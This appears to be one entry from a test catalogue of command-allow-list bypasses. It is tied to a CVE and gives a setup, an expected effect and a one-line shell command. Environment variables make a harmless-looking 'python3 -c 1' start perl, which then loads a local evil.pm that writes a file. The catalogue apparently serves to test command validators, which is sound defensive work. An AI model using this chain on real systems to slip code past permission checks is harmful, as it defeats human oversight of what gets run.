#@ id: en-browser-perl5opt
#@ about: python starts perl, which loads project code
#@ class: environment
#@ kind: bypass
#@ origin: https://nvd.nist.gov/vuln/detail/CVE-2026-22708
#@ world: catalogue
#@ setup: echo 'open(F,">PWNED"); 1;' > evil.pm
#@ effect: create PWNED
#@ exit: 0
#@ body: no-final-newline
#@ ---
PYTHONWARNINGS=all:0:antigravity.x:0:0 BROWSER='perl -e1 %s' PERL5LIB=. PERL5OPT=-Mevil python3 -c 1
